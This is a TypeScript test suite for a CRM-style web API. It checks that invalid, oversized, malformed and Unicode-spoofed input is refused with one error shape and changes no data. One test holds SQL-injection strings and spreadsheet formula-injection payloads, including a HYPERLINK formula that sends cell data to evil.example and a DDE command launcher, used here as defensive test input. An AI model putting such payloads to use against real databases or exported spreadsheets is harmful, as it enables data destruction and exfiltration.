import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countRows, createCustomer, createRole, defineField, expectErrorBody, rowOf } from '../factories.ts';
import { makeStore, newTenant, type TestApp, testApp } from '../helpers.ts';

/** Bad input is refused with the one error body, and refused input never changes data. */

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
});
afterAll(async () => {
  await t.app.close();
});

const TABLES = ['customers', 'customer_contacts', 'customer_phones', 'users', 'roles', 'org_units', 'custom_field_defs', 'audit_log'];

async function world() {
  const tn = await newTenant(t);
  const store = await makeStore(tn.admin, tn.hq.id);
  const role = (await tn.admin.get('/api/v1/roles')).json().items.find((r: { name: string }) => r.name === '导购');
  const customer = await createCustomer(tn.admin, {
    name: '原始客户',
    phones: ['13812345678'],
    tags: ['老客户'],
  });
  const field = await defineField(tn.admin, {
    key: 'level',
    type: 'select',
    options: ['金卡', '银卡'],
  });
  const user = (
    await tn.admin.post('/api/v1/users', {
      username: 'clerk1',
      displayName: '店员',
      password: 'password-1',
      unitId: store.id,
      roleIds: [role.id],
    })
  ).json();
  const custom = await createRole(tn.admin, {
    name: '自定义',
    permissions: ['customers:view'],
    dataScope: 'unit',
  });
  return { ...tn, store, role, customer, field, user, custom };
}
type World = Awaited<ReturnType<typeof world>>;

const footprint = async (w: World) => Promise.all(TABLES.map((x) => countRows(t, x, w.tenant.id)));
const records = async (w: World) =>
  Promise.all([
    rowOf(t, 'customers', w.customer.id),
    rowOf(t, 'users', w.user.id),
    rowOf(t, 'roles', w.custom.id),
    rowOf(t, 'org_units', w.store.id),
    rowOf(t, 'custom_field_defs', w.field.id),
  ]);

/** Run a bad request and prove it changed nothing. */
async function refused(w: World, send: () => Promise<import('fastify').LightMyRequestResponse>, status: number, code: string) {
  const counts = await footprint(w);
  const before = await records(w);
  const res = await send();
  const err = expectErrorBody(res, status, code);
  expect(await footprint(w)).toEqual(counts);
  expect(await records(w)).toEqual(before);
  return err;
}

/** The five writable objects, each with a valid body to spoil. */
function targets(w: World): {
  name: string;
  post: string;
  patch: string;
  valid: Record<string, unknown>;
  nameField: string;
}[] {
  return [
    {
      name: 'customer',
      post: '/api/v1/customers',
      patch: `/api/v1/customers/${w.customer.id}`,
      valid: { kind: 'person', name: '新客户' },
      nameField: 'name',
    },
    {
      name: 'user',
      post: '/api/v1/users',
      patch: `/api/v1/users/${w.user.id}`,
      valid: {
        username: 'newbie',
        displayName: '新人',
        password: 'password-1',
        unitId: w.store.id,
        roleIds: [w.role.id],
      },
      nameField: 'displayName',
    },
    {
      name: 'role',
      post: '/api/v1/roles',
      patch: `/api/v1/roles/${w.custom.id}`,
      valid: {
        name: '新角色',
        permissions: ['customers:view'],
        dataScope: 'own',
      },
      nameField: 'name',
    },
    {
      name: 'org unit',
      post: '/api/v1/org/units',
      patch: `/api/v1/org/units/${w.store.id}`,
      valid: {
        parentId: w.hq.id,
        kind: 'store',
        storeKind: 'direct',
        code: 'NEW1',
        name: '新门店',
      },
      nameField: 'name',
    },
    {
      name: 'custom field',
      post: '/api/v1/custom-fields',
      patch: `/api/v1/custom-fields/${w.field.id}`,
      valid: {
        object: 'customer',
        key: 'new_field',
        label: '新字段',
        type: 'text',
      },
      nameField: 'label',
    },
  ];
}

describe('malformed bodies', () => {
  it('answers 422 with issues for wrong types and missing fields on every create', async () => {
    const w = await world();
    const wrong: Record<string, [Record<string, unknown>, string][]> = {
      customer: [
        [{ kind: 'robot', name: 123 }, 'body.kind'],
        [{ kind: 'person', name: '甲', phones: '13812345678' }, 'body.phones'],
        [{ kind: 'person', name: '甲', birthday: '1990-01-01' }, 'body.birthday'],
        [{ kind: 'person', name: '甲', tags: [1, 2] }, 'body.tags.0'],
        [{ kind: 'person', name: '甲', email: 'not-an-email' }, 'body.email'],
        [{ kind: 'person', name: '甲', homeProfile: { areaSqm: 'big' } }, 'body.homeProfile.areaSqm'],
      ],
      user: [
        [
          {
            username: 'a b',
            displayName: 'x',
            password: 'short',
            unitId: 'nope',
            roleIds: [],
          },
          'body.username',
        ],
        [
          {
            username: 'ok_name',
            displayName: '人',
            password: 'password-1',
            unitId: w.store.id,
            roleIds: 'r',
          },
          'body.roleIds',
        ],
      ],
      role: [
        [{ name: '角色', permissions: 'customers:view', dataScope: 'own' }, 'body.permissions'],
        [{ name: '角色', permissions: [], dataScope: 'everything' }, 'body.dataScope'],
        [
          {
            name: '角色',
            permissions: [],
            dataScope: 'own',
            fieldRules: { 'customer.phones': 'invisible' },
          },
          'body.fieldRules.customer.phones',
        ],
      ],
      'org unit': [
        [{ parentId: w.hq.id, kind: 'hq', code: 'X', name: '总部二' }, 'body.kind'],
        [{ parentId: w.hq.id, kind: 'store', code: 'X', name: '无类型店' }, 'body.storeKind'],
        [
          {
            parentId: w.hq.id,
            kind: 'store',
            storeKind: 'direct',
            code: 'has space',
            name: '店',
          },
          'body.code',
        ],
      ],
      'custom field': [
        [{ object: 'customer', key: 'Bad Key', label: 'x', type: 'text' }, 'body.key'],
        [{ object: 'customer', key: 'k', label: 'x', type: 'color' }, 'body.type'],
        [{ object: 'customer', key: 'k', label: 'x', type: 'select' }, 'body.options'],
        [{ object: 'order', key: 'k', label: 'x', type: 'text' }, 'body.object'],
      ],
    };
    for (const tg of targets(w)) {
      const missing = await refused(w, () => w.admin.post(tg.post, {}), 422, 'validation_failed');
      expect(missing.issues?.length, `${tg.name} {}`).toBeGreaterThan(0);
      expect(
        missing.issues?.every((i) => i.path.startsWith('body.')),
        tg.name,
      ).toBe(true);
      for (const [body, path] of wrong[tg.name]) {
        const err = await refused(w, () => w.admin.post(tg.post, body), 422, 'validation_failed');
        expect(
          err.issues?.map((i) => i.path),
          `${tg.name} ${JSON.stringify(body)}`,
        ).toContain(path);
      }
    }
  });

  it('answers 422 for wrong types in a PATCH and keeps the record', async () => {
    const w = await world();
    const bodies: Record<string, Record<string, unknown>> = {
      customer: { name: ['x'] },
      user: { status: 'sleeping' },
      role: { dataScope: 42 },
      'org unit': { status: 'demolished' },
      'custom field': { required: 'yes' },
    };
    for (const tg of targets(w)) {
      const err = await refused(w, () => w.admin.patch(tg.patch, bodies[tg.name]), 422, 'validation_failed');
      expect(err.issues?.[0].path, tg.name).toBe(`body.${Object.keys(bodies[tg.name])[0]}`);
    }
  });

  it('answers 413 for a 2 MB body on every create and change', async () => {
    const w = await world();
    const huge = 'x'.repeat(2 * 1024 * 1024);
    for (const tg of targets(w)) {
      for (const [method, url] of [
        ['POST', tg.post],
        ['PATCH', tg.patch],
      ] as const) {
        await refused(
          w,
          () =>
            t.app.inject({
              method,
              url,
              headers: {
                cookie: w.admin.cookie,
                'content-type': 'application/json',
              },
              payload: JSON.stringify({ ...tg.valid, [tg.nameField]: huge }),
            }),
          413,
          'payload_too_large',
        );
      }
    }
  });

  it('answers 400 for malformed JSON and 415 for an unsupported content type', async () => {
    const w = await world();
    for (const tg of targets(w)) {
      await refused(
        w,
        () =>
          t.app.inject({
            method: 'POST',
            url: tg.post,
            headers: {
              cookie: w.admin.cookie,
              'content-type': 'application/json',
            },
            payload: '{"name": "x",',
          }),
        400,
        'malformed_body',
      );
      await refused(
        w,
        () =>
          t.app.inject({
            method: 'PATCH',
            url: tg.patch,
            headers: {
              cookie: w.admin.cookie,
              'content-type': 'application/xml',
            },
            payload: '<name>x</name>',
          }),
        415,
        'malformed_body',
      );
    }
  });
});

describe('text that hides or fakes', () => {
  const ZERO_WIDTH = ['王\u200b芳', '\u200d王芳', '王芳\ufeff', '王\u200c芳', '王\u2060芳'];
  const BIDI = ['王芳\u202egnp.exe', '\u202d王芳', '\u2066王芳\u2069', '王\u200f芳'];
  const CONTROL = ['王\u0000芳', '王\u0007芳'];

  it('refuses zero-width, bidi-override and control characters in every name (422) and stores nothing', async () => {
    const w = await world();
    for (const tg of targets(w)) {
      for (const bad of [...ZERO_WIDTH, ...BIDI, ...CONTROL]) {
        const body = { ...tg.valid, [tg.nameField]: bad };
        const created = await refused(w, () => w.admin.post(tg.post, body), 422, 'validation_failed');
        expect(
          created.issues?.map((i) => i.path),
          `${tg.name} ${JSON.stringify(bad)}`,
        ).toEqual([`body.${tg.nameField}`]);
        const changed = await refused(w, () => w.admin.patch(tg.patch, { [tg.nameField]: bad }), 422, 'validation_failed');
        expect(changed.issues?.map((i) => i.path)).toEqual([`body.${tg.nameField}`]);
      }
    }
  });

  it('accepts emoji (including joined sequences and flags) and stores them exactly', async () => {
    const w = await world();
    for (const name of ['王芳🛋️', '👨‍👩‍👧 李家', '🇨🇳 张伟', '陈👩🏻‍💼总']) {
      const c = await createCustomer(w.admin, { name });
      expect(c.name).toBe(name);
      expect((await rowOf(t, 'customers', c.id))?.name).toBe(name);
      expect((await w.admin.get(`/api/v1/customers/${c.id}`)).json().name).toBe(name);
    }
    const role = await w.admin.patch(`/api/v1/roles/${w.custom.id}`, {
      name: '🛋️ 沙发组',
    });
    expect(role.json().name).toBe('🛋️ 沙发组');
    const unit = await w.admin.patch(`/api/v1/org/units/${w.store.id}`, {
      name: '🏬 旗舰店',
    });
    expect(unit.json().name).toBe('🏬 旗舰店');
  });

  it('stores SQL and spreadsheet formulas literally, and finds them as text', async () => {
    const w = await world();
    const strings = [
      "'; DROP TABLE customers; --",
      "Robert'); DELETE FROM audit_log;--",
      '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|',
      '-2+3',
    ];
    for (const s of strings) {
      const c = await createCustomer(w.admin, {
        name: s,
        notes: s,
        tags: [s.slice(0, 32)],
      });
      expect(c.name).toBe(s);
      expect(await rowOf(t, 'customers', c.id)).toMatchObject({
        name: s,
        notes: s,
        tags: [s.slice(0, 32)],
      });
      const u = await w.admin.patch(`/api/v1/users/${w.user.id}`, {
        displayName: s.slice(0, 64),
      });
      expect(u.json().displayName).toBe(s.slice(0, 64));
    }
    const found = await w.admin.get(`/api/v1/customers?q=${encodeURIComponent('DROP TABLE')}`);
    expect(found.json().items.map((i: { name: string }) => i.name)).toEqual(["'; DROP TABLE customers; --"]);
    // The table and the trail are still there.
    expect(await countRows(t, 'customers', w.tenant.id)).toBe(1 + strings.length);
    expect(await countRows(t, 'audit_log', w.tenant.id)).toBeGreaterThan(strings.length);
  });
});

describe('customer-specific refusals', () => {
  it('refuses an unknown custom field, a wrong option and a missing required field, each with its path', async () => {
    const w = await world();
    const unknown = await refused(
      w,
      () =>
        w.admin.post('/api/v1/customers', {
          kind: 'person',
          name: '甲',
          customFields: { nope: 1 },
        }),
      422,
      'validation_failed',
    );
    expect(unknown.issues?.map((i) => i.path)).toEqual(['body.customFields.nope']);
    const option = await refused(
      w,
      () =>
        w.admin.patch(`/api/v1/customers/${w.customer.id}`, {
          customFields: { level: '钻石卡' },
        }),
      422,
      'validation_failed',
    );
    expect(option.issues?.map((i) => i.path)).toEqual(['body.customFields.level']);
  });

  it('refuses more than 10 phones, and an invalid phone with the issue at body.phones.N', async () => {
    const w = await world();
    const eleven = Array.from({ length: 11 }, (_, i) => `1390000${String(i).padStart(4, '0')}`);
    const many = await refused(
      w,
      () =>
        w.admin.post('/api/v1/customers', {
          kind: 'person',
          name: '号码多',
          phones: eleven,
        }),
      422,
      'validation_failed',
    );
    expect(many.issues?.map((i) => i.path)).toEqual(['body.phones']);
    await refused(w, () => w.admin.patch(`/api/v1/customers/${w.customer.id}`, { phones: eleven }), 422, 'validation_failed');
    const invalid = await refused(
      w,
      () =>
        w.admin.post('/api/v1/customers', {
          kind: 'person',
          name: '坏号',
          phones: ['13812345678', '138123', '+86 999 0000 0000', '１２３'],
        }),
      422,
      'validation_failed',
    );
    expect(invalid.issues?.map((i) => i.path)).toEqual(['body.phones.1', 'body.phones.2', 'body.phones.3']);
    const patch = await refused(
      w,
      () =>
        w.admin.patch(`/api/v1/customers/${w.customer.id}`, {
          phones: ['13812345678', 'call me'],
        }),
      422,
      'validation_failed',
    );
    expect(patch.issues?.map((i) => i.path)).toEqual(['body.phones.1']);
    const contact = await refused(
      w,
      () =>
        w.admin.post(`/api/v1/customers/${w.customer.id}/contacts`, {
          name: '联系人',
          phones: ['12'],
        }),
      422,
      'validation_failed',
    );
    expect(contact.issues?.map((i) => i.path)).toEqual(['body.phones.0']);
  });

  it('answers 409 for a likely duplicate and creates nothing', async () => {
    const w = await world();
    const err = await refused(
      w,
      () =>
        w.admin.post('/api/v1/customers', {
          kind: 'person',
          name: '另一个人',
          phones: ['+86 138-1234-5678'],
        }),
      409,
      'duplicate_suspected',
    );
    expect(err.params?.duplicates).toEqual([
      expect.objectContaining({
        customerId: w.customer.id,
        reason: 'samePhone',
      }),
    ]);
  });

  it('answers 409 for duplicate keys: custom field key, unit code, role name, username', async () => {
    const w = await world();
    await refused(
      w,
      () =>
        w.admin.post('/api/v1/custom-fields', {
          object: 'customer',
          key: 'level',
          label: '再来',
          type: 'text',
        }),
      409,
      'conflict',
    );
    const unitCode = (await rowOf(t, 'org_units', w.store.id))?.code as string;
    await refused(
      w,
      () =>
        w.admin.post('/api/v1/org/units', {
          parentId: w.hq.id,
          kind: 'store',
          storeKind: 'direct',
          code: unitCode,
          name: '同码店',
        }),
      409,
      'conflict',
    );
    await refused(
      w,
      () =>
        w.admin.post('/api/v1/roles', {
          name: '自定义',
          permissions: [],
          dataScope: 'own',
        }),
      409,
      'conflict',
    );
    await refused(
      w,
      () =>
        w.admin.post('/api/v1/users', {
          username: 'CLERK1',
          displayName: '重名',
          password: 'password-1',
          unitId: w.store.id,
          roleIds: [w.role.id],
        }),
      409,
      'conflict',
    );
  });
});

describe('error bodies', () => {
  it('uses the one error shape for 401, 403, 404, 413, 415, 422 and an unknown route', async () => {
    const w = await world();
    const anon = await t.app.inject({
      method: 'POST',
      url: '/api/v1/customers',
      payload: { kind: 'person', name: 'x' },
    });
    expectErrorBody(anon, 401, 'unauthenticated');
    expectErrorBody(
      await t.app.inject({
        method: 'GET',
        url: '/api/v1/no-such-thing',
        headers: { cookie: w.admin.cookie },
      }),
      404,
      'not_found',
    );
    expectErrorBody(await w.admin.get(`/api/v1/users/${crypto.randomUUID()}`), 404, 'not_found');
    const ids = new Set<string>();
    for (let i = 0; i < 3; i++) ids.add(expectErrorBody(await w.admin.post('/api/v1/roles', {}), 422, 'validation_failed').requestId);
    expect(ids.size).toBe(3);
  });

  it('never leaks internals in a 5xx body', async () => {
    const w = await world();
    // A cursor that passes the schema but not the decoder must not reach the database as garbage.
    const res = await w.admin.get(`/api/v1/customers?cursor=${Buffer.from('["x","00000000-0000-0000-0000-000000000000"]').toString('base64url')}`);
    expect(res.statusCode).toBe(422);
    expect(res.body).not.toMatch(/stack|at .*\.ts:|syntax error|invalid input syntax/i);
  });
});
